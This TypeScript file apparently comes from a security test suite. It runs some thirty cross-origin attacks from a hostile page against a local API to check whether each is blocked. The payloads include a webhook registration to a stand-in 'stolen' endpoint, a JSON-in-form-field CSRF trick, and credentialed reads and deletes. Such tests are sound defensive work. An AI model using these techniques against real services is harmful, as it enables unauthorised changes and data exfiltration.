import type { Attack, Prey } from "./attacks.ts";

/** Runs in the hostile page. Answers what the page could read: the status and the text, or `nothing`. */
export function runAttack([attack, prey]: readonly [Attack, Prey]): Promise<string> {
  const { base, apiKey, apiSecret, labelPath } = prey;
  const api = `${base}/api/v1`;
  const hooks = `${api}/webhooks`;
  const book = `${api}/openapi.json`;
  const label = base + labelPath;
  const key = { "X-API-Key": apiKey, "X-API-Secret": apiSecret };
  const order = JSON.stringify({
    webhookUrl: "http://127.0.0.1:9/stolen",
    events: ["label.created"],
  });
  const json = { "Content-Type": "application/json" };
  const nothing = "nothing";

  const send = async (url: string, init: RequestInit = {}) => {
    try {
      const answer = await fetch(url, init);
      return answer.type === "opaque" ? nothing : `${answer.status} ${await answer.text()}`;
    } catch {
      return nothing;
    }
  };
  const xhr = (method: string, headers: Record<string, string>, body?: string) =>
    new Promise<string>((resolve) => {
      const one = new XMLHttpRequest();
      one.addEventListener("load", () => resolve(`${one.status} ${one.responseText}`));
      one.addEventListener("error", () => resolve(nothing));
      one.open(method, hooks);
      one.withCredentials = true;
      for (const [name, value] of Object.entries(headers)) one.setRequestHeader(name, value);
      one.send(body);
    });
  /** An element that loads something; one that succeeds has shown the page something. */
  const load = (tag: string, attributes: Record<string, string>) =>
    new Promise<string>((resolve) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.addEventListener("load", () => resolve("loaded"));
      element.addEventListener("loadeddata", () => resolve("loaded"));
      element.addEventListener("error", () => resolve(nothing));
      document.body.append(element);
    });
  /** What a window of this page, or a frame in it, lets it see. */
  const look = (other: Window | null) => {
    try {
      return other?.document.body.textContent || nothing;
    } catch {
      return nothing;
    }
  };
  const frame = (url: string) =>
    new Promise<string>((resolve) => {
      const element = document.createElement("iframe");
      element.addEventListener("load", () => resolve(look(element.contentWindow)));
      element.src = url;
      document.body.append(element);
    });
  const submit = (method: string, enctype: string) =>
    new Promise<string>((resolve) => {
      const element = document.createElement("iframe");
      element.name = `frame${document.querySelectorAll("iframe").length}`;
      document.body.append(element);
      const form = document.createElement("form");
      Object.assign(form, { method, enctype, action: hooks, target: element.name });
      const field = document.createElement("input");
      // As text it is JSON with one odd key more.
      field.name = `${order.slice(0, -1)},"a":"`;
      field.value = '"}';
      form.append(field);
      document.body.append(form);
      element.addEventListener("load", () => resolve(look(element.contentWindow)));
      form.submit();
    });
  const open = async () => {
    const other = window.open(book);
    // Until it has left its first empty page, which is this page's own.
    for (let tries = 0; tries < 200; tries++) {
      try {
        if (other?.location.href !== "about:blank") break;
      } catch {
        break;
      }
      await new Promise((next) => requestAnimationFrame(next));
    }
    const seen = look(other);
    other?.close();
    return seen;
  };
  const socket = () =>
    new Promise<string>((resolve) => {
      const other = new WebSocket(hooks.replace("http", "ws"));
      other.addEventListener("open", () => resolve("open"));
      other.addEventListener("error", () => resolve(nothing));
    });
  const events = () =>
    new Promise<string>((resolve) => {
      const source = new EventSource(hooks, { withCredentials: true });
      source.addEventListener("open", () => resolve("open"));
      source.addEventListener("error", () => {
        source.close();
        resolve(nothing);
      });
    });
  const worker = () =>
    new Promise<string>((resolve) => {
      const code = `try { importScripts("${book}"); postMessage("loaded") } catch { postMessage("nothing") }`;
      const one = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
      one.addEventListener("message", ({ data }) => resolve(String(data)));
      one.addEventListener("error", () => resolve(nothing));
    });
  const serviceWorker = async () => {
    const container = navigator.serviceWorker as ServiceWorkerContainer | undefined;
    if (!container) return "no such power";
    await container.register("/worker.js").catch(() => null);
    const { active } = await container.ready;
    return new Promise<string>((resolve) => {
      container.addEventListener("message", ({ data }) => resolve(String(data)));
      // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a worker has none
      active?.postMessage(hooks);
    });
  };
  const beacon = async (body: BodyInit) => {
    navigator.sendBeacon(hooks, body);
    return nothing;
  };

  const ways: Record<Attack, () => Promise<string>> = {
    fetch: () => send(book),
    "fetch without CORS": () => send(hooks, { mode: "no-cors" }),
    "fetch with cookies": () => send(hooks, { credentials: "include" }),
    "fetch that outlives the page": () =>
      send(hooks, { method: "POST", body: order, keepalive: true, mode: "no-cors" }),
    "fetch with a key": () => send(hooks, { headers: key }),
    "fetch of JSON": () =>
      send(hooks, { method: "POST", body: order, headers: { ...json, ...key } }),
    "fetch of JSON as text": () => send(hooks, { method: "POST", body: order, mode: "no-cors" }),
    "fetch that deletes": () => send(`${hooks}/hook_1`, { method: "DELETE", headers: key }),
    XMLHttpRequest: () => xhr("GET", {}),
    "XMLHttpRequest of JSON": () => xhr("POST", { ...json, ...key }, order),
    beacon: () => beacon(order),
    "beacon of JSON": () => beacon(new Blob([order], { type: "application/json" })),
    "form by GET": () => submit("get", "application/x-www-form-urlencoded"),
    form: () => submit("post", "application/x-www-form-urlencoded"),
    "form of parts": () => submit("post", "multipart/form-data"),
    "form as text": () => submit("post", "text/plain"),
    image: () => load("img", { src: hooks }),
    script: () => load("script", { src: book }),
    module: () => load("script", { src: book, type: "module" }),
    "style sheet": () => load("link", { href: book, rel: "stylesheet" }),
    video: () => load("video", { src: label, preload: "auto" }),
    object: () => load("object", { data: book, type: "text/html" }),
    frame: () => frame(book),
    "frame of a label": () => frame(label),
    "image of a label": () => load("img", { src: label }),
    "fetch of a label": () => send(label),
    window: open,
    WebSocket: socket,
    EventSource: events,
    worker,
    "service worker": serviceWorker,
  };
  return ways[attack]();
}
